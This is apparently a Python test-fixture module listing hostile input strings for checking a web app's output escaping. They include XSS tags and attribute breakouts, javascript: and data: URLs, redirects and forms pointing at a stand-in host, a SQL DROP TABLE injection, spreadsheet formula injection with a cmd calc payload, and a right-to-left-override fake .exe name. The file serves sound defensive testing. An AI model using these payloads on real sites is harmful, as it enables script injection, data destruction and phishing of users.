"""Text that somebody could type, paste, import or put in a link to make the site do what it should not.

What would run says ``hit()``, which the tests define to tell on it; what would load or navigate names a host that does
not exist.
"""

from __future__ import annotations

# Elements and documents that load or run by themselves.
_ELEMENTS = (
    "<script>hit()</script>",
    "<SCRIPT SRC=//elders.example/x.js></SCRIPT>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    "<img src=//elders.example/pixel.gif>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>top.hit()</script>'>",
    "<svg><use href=//elders.example/x.svg#a></svg>",
    "<iframe src=javascript:top.hit()></iframe>",
    "<iframe srcdoc='<script>top.hit()</script>'></iframe>",
    "<object data=//elders.example/x></object>",
    "<embed src=javascript:hit()>",
    "<video><source onerror=hit()></video>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<body onpageshow=hit()>",
    "<math><mi xlink:href=javascript:hit()>klik</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<custom-element onanimationstart=hit() style=animation:x>",
)

# Elements that change the page, its address or where it sends to.
_PAGE = (
    '<meta http-equiv="refresh" content="0;url=//elders.example/">',
    "<base href=//elders.example/>",
    "<link rel=stylesheet href=//elders.example/x.css>",
    "<link rel=prefetch href=//elders.example/>",
    "<style>body{display:none;background:url(//elders.example/)}</style>",
    "<form action=//elders.example/><button>Verstuur</button></form>",
    "</form><form id=pww-score action=//elders.example/>",
    "<a href=javascript:hit()>klik</a>",
    "<a href=//elders.example/ target=_top>klik</a>",
    "<p style=position:fixed;inset:0>",
)

# Ways out of where the text is put.
_BREAKOUTS = (
    '"><script>hit()</script>',
    "'><img src=x onerror=hit()>",
    '" autofocus onfocus="hit()',
    "' onpointerover='hit()",
    "` onerror=hit() `",
    "--><script>hit()</script><!--",
    "]]><script>hit()</script>",
    "</title></head><script>hit()</script>",
    "</textarea></option></select><img src=x onerror=hit()>",
    "</template><script>hit()</script><template>",
    "</noscript><img src=x onerror=hit()>",
    "</svg></text></tspan><img src=x onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->",
    "<template><img src=x onerror=hit()></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
)

# Addresses, as text that something might take for one.
_ADDRESSES = (
    "javascript:hit()",
    " java\tscript:hit()",
    "data:text/html,<script>hit()</script>",
    "https://elders.example/",
    "//elders.example/",
    "#javascript:hit()",
    "?q=1&_next=//elders.example/",
)

# What stays text only when nobody decodes, fills in or interprets it once more.
_ENCODED = (
    "&lt;img src=x onerror=hit()&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "%00%zz%",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "＜script＞hit()＜/script＞",
    "<\0script>hit()</script>",
    "naam\0achter",
    "{index} {number} {winner}",
    "{0.__class__.__init__.__globals__}",
    "%(naam)s %s %d $& $1 ${hit()} {{hit()}}",
    "[klik](javascript:hit()) ![x](//elders.example/x.png)",
    "**vet** `code` | tabel | <https://elders.example/>",
    '{"kind":"klantkompas-rapport","version":9}',
    "'; DROP TABLE klanten; --",
)

# Words with a meaning of their own in JavaScript or Python.
_NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "__class__", "None", "undefined", "NaN")

# Formulas for the spreadsheet in which a download is opened.
_FORMULAS = (
    '=HYPERLINK("//elders.example/","klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    '";=1+1;"',
)

# Letters that are not what they look like, or that there is no end to.
_LETTERS = (
    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    "\N{RIGHT-TO-LEFT ISOLATE}achteruit",
    "Z\N{COMBINING GRAVE ACCENT}\N{COMBINING ENCLOSING CIRCLE}" + "\N{COMBINING DIAERESIS}" * 40,
    "nul\N{ZERO WIDTH SPACE}breed\N{ZERO WIDTH JOINER}",
    "\N{FAMILY}\N{WAVING BLACK FLAG}\N{TAG LATIN SMALL LETTER N}\N{CANCEL TAG}",
    "lijn\N{LINE SEPARATOR}einde\N{PARAGRAPH SEPARATOR}",
    "half \ud83d paar",
    "\udc4d andersom",
    "\ufffe\uffff",
    "\x01\x08\x0b\x1b[31m\x7f",
    "I\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}\N{LATIN SMALL LETTER DOTLESS I}\N{LATIN CAPITAL LETTER SHARP S}",
    "<" * 300,
    "<b>" * 300,
    "A" * 3_000,
)

PAYLOADS = (*_ELEMENTS, *_PAGE, *_BREAKOUTS, *_ADDRESSES, *_ENCODED, *_NAMES, *_FORMULAS, *_LETTERS)
